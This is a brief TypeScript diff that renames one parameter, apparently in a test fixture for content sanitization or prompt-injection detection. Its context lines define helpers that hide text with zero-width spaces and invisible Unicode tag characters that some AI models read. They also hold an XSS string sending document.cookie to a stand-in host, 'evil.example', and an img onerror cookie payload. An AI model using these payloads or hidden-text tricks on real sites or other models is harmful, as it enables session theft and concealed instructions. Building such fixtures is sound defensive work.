@@ -26,7 +26,7 @@ const ZERO_WIDTH = '\u200b';
 const hidden = (text: string): string => [...text].join(ZERO_WIDTH);
 /** Invisible tag characters that spell ASCII, which some models read. */
 const asTags = (text: string): string =>
-  [...text].map((letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join('');
+  [...text].map((character) => String.fromCodePoint(0xe0000 + character.charCodeAt(0))).join('');
 
 const SCRIPT = '<script>fetch("https://evil.example/?c="+document.cookie)</script>';
 const IMAGE = '<img src=x onerror="alert(document.cookie)">';
